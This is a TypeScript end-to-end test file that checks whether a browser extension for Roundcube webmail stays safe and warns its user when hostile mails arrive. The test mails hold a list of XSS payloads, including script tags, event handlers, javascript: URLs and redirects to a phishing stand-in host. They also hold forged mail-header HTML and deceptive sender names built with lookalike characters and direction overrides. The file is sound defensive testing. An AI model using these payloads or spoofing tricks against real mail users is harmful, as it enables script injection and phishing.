import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { badgeSaying } from './browsers/closed-shadow';
import { timeOfScript } from './browsers/script-time';
import { hasChromium, hasDisplay, hasMailHost } from './needs';
import { aMail, type MailFacts } from './servers/mailbox';
import { openFolder, openMessage } from './servers/roundcube-page';
import { ME, openStage, type Stage } from './stage';
import { wordsOf } from './words';

const word = wordsOf('de');
const HOUR = 3_600_000;
const RUNS_CODE = "window.top.owned='yes';alert('owned')";

/** Roundcube's own header area, as a mail would imitate it, with another sender in it. */
const FORGED_HEADER = `
  <div id="message-header" class="message-header"><h2 class="subject">Kontosperrung</h2>
  <div class="header-summary"><span class="text-nowrap">2020-01-01 00:00</span></div>
  <table class="headers-table header-headers"><tbody><tr><td class="header-title">Von</td><td class="header from">
  <span class="adr"><a href="mailto:chef@bank.example" class="rcmContactAddress" title="chef@bank.example">Chef</a></span></td></tr>
  </tbody></table></div>`;

const VECTORS = `
  <script>${RUNS_CODE}</script><img src="x" onerror="${RUNS_CODE}"><svg onload="${RUNS_CODE}"></svg>
  <body onload="${RUNS_CODE}"><a href="javascript:${RUNS_CODE}" autofocus onfocus="${RUNS_CODE}">Hier</a>
  <details open ontoggle="${RUNS_CODE}"><summary>x</summary></details>
  <iframe srcdoc="&lt;script&gt;${RUNS_CODE}&lt;/script&gt;"></iframe><object data="javascript:${RUNS_CODE}"></object>
  <form action="https://phish.example/" onsubmit="${RUNS_CODE}"><input name="password" onfocus="${RUNS_CODE}" autofocus>
  <button formaction="javascript:${RUNS_CODE}">Anmelden</button></form>
  <style>*{background:url("javascript:${RUNS_CODE}")}</style><meta http-equiv="refresh" content="0;url=https://phish.example/">
  <template><img src=x onerror="${RUNS_CODE}"></template></div></div></table><kundenpuls-badge>x</kundenpuls-badge>`;

let number = 0;
const hostile = (from: MailFacts['from'], subject: string, html?: string) =>
  aMail({
    from,
    to: ME,
    subject,
    date: new Date(Date.now() - ++number * HOUR),
    text: 'Text',
    ...(html !== undefined && { html }),
  });

const SENT_BY = { name: 'Erika Muster', address: 'erika@muster-moebel.example' };
/** An address as the name, one in full-width characters, Cyrillic letters among Latin ones. */
const DECEPTIVE = [
  ['service@bank.example', 'x1@angreifer.example', 'Name ist Adresse'],
  ['service＠bank.example', 'x2@angreifer.example', 'Breite Zeichen'],
  ['Sраrkasse Nord', 'x3@angreifer.example', 'Gemischte Schrift'],
] as const;

describe.skipIf(!hasChromium || !hasDisplay || !hasMailHost)('a hostile mail in a real Roundcube', () => {
  let stage: Stage;
  const dialogs: string[] = [];
  const errors: string[] = [];

  beforeAll(async () => {
    stage = await openStage({
      language: 'de',
      theme: 'light',
      mails: [
        hostile(SENT_BY, 'Mit Skripten', VECTORS),
        hostile(SENT_BY, 'Gefälschter Kopf', FORGED_HEADER),
        hostile(SENT_BY, 'Beides', `${FORGED_HEADER}</div></div></div></body>${FORGED_HEADER}${VECTORS}`),
        hostile(SENT_BY, 'Hunderttausend Knoten', '<i>a</i>'.repeat(100_000)),
        hostile({ name: 'Bilanz\u202Eelpmaxe.knab@ecivres\u202C', address: 'x4@angreifer.example' }, 'Umgekehrt'),
        ...DECEPTIVE.map(([name, address, subject]) => hostile({ name, address }, subject)),
      ],
    });
    stage.browser.context.on('dialog', (dialog) => {
      // Roundcube's own question whether to leave a page.
      if (dialog.type() === 'beforeunload') return void dialog.accept();
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    stage.browser.context.on('weberror', (error) => errors.push(String(error.error())));
    await stage.allowSite();
    await stage.mail.bringToFront();
  });
  afterAll(() => stage?.close());

  /** Opens a mail and waits until it is this one that the preview shows. */
  const open = async (subject: string) => {
    const preview = await openMessage(stage.mail, subject);
    await preview.locator('#message-header .subject', { hasText: subject }).first().waitFor();
    return preview;
  };

  /** Roundcube's own preference to show addresses beside names. */
  const showAddresses = async () => {
    const { mail, host } = stage;
    await mail.goto(`${host.url}?_task=settings&_action=edit-prefs&_section=mailview`);
    await mail.locator('input[name=_message_show_email]').setChecked(true, { force: true });
    await mail.waitForFunction('!rcmail.busy && Boolean(rcmail.commands.save)');
    await mail.evaluate("rcmail.command('save')");
    await mail.waitForURL(({ search }) => !search.includes('edit-prefs'));
    await openFolder(mail, 'INBOX');
  };

  /** What the popup says of the mail that is open. */
  const inPopup = async <T>(look: (popup: Page) => Promise<T>): Promise<T> => {
    const popup = await stage.besideMail('popup.html');
    try {
      return await look(popup);
    } finally {
      await popup.close();
      await stage.mail.bringToFront();
    }
  };
  const nothingRan = async (pages: readonly Page[]) => {
    expect(dialogs).toEqual([]);
    for (const page of pages)
      for (const frame of page.frames())
        expect(await frame.evaluate(() => (globalThis as { owned?: string }).owned)).toBeUndefined();
    expect(stage.browser.context.pages().map((page) => new URL(page.url()).host)).not.toContain('phish.example');
  };

  it.each(['Mit Skripten', 'Gefälschter Kopf', 'Beides'])(
    'is read as text, its sender from the header alone: %s',
    async (subject) => {
      await open(subject);
      await badgeSaying(stage.mail, new RegExp(word('badge_unknown')));
      await inPopup(async (popup) => {
        await popup.getByText(SENT_BY.address).first().waitFor();
        expect(await popup.locator('body').textContent()).not.toContain('bank.example');
        await nothingRan([stage.mail, popup]);
      });
    },
  );

  // Roundcube hides a name with an address in it unless its user wants to see addresses; then only we can warn.
  it('is warned of when its sender shows somebody else', async () => {
    await showAddresses();
    for (const [name, address, subject] of DECEPTIVE) {
      await open(subject);
      await inPopup(async (popup) => {
        await popup.getByText(address).first().waitFor();
        await popup.getByText(word('new_customer_deceptive')).waitFor();
        // What is offered to be stored is never the borrowed name.
        expect(await popup.getByLabel(word('new_customer_name'), { exact: true }).inputValue()).not.toBe(name);
      });
    }
  });

  it('cannot turn the writing around: direction characters of a name are gone', async () => {
    await open('Umgekehrt');
    await inPopup(async (popup) => {
      await popup.getByText('x4@angreifer.example').first().waitFor();
      const name = await popup.getByLabel(word('new_customer_name'), { exact: true }).inputValue();
      expect(`${name} ${await popup.locator('body').textContent()}`).not.toMatch(/[\u202A-\u202E\u2066-\u2069]/);
    });
  });

  it('of 100,000 nodes is read without freezing the page', async () => {
    const { longest, all } = await timeOfScript(stage.mail, 'content-scripts/webmail.js', async () => {
      const preview = await open('Hunderttausend Knoten');
      expect(await preview.locator('#messagebody i').count()).toBe(100_000);
      await inPopup((popup) => popup.getByText(SENT_BY.address).first().waitFor());
    });
    console.log(`100,000 nodes: longest task of ours ${longest.toFixed(1)} ms, ${all.toFixed(1)} ms in all`);
    expect(longest).toBeLessThan(50);
  });

  it('leaves no error behind', () => {
    expect(errors.filter((error) => error.includes('kundenpuls') || error.includes('webmail.js'))).toEqual([]);
  });
});
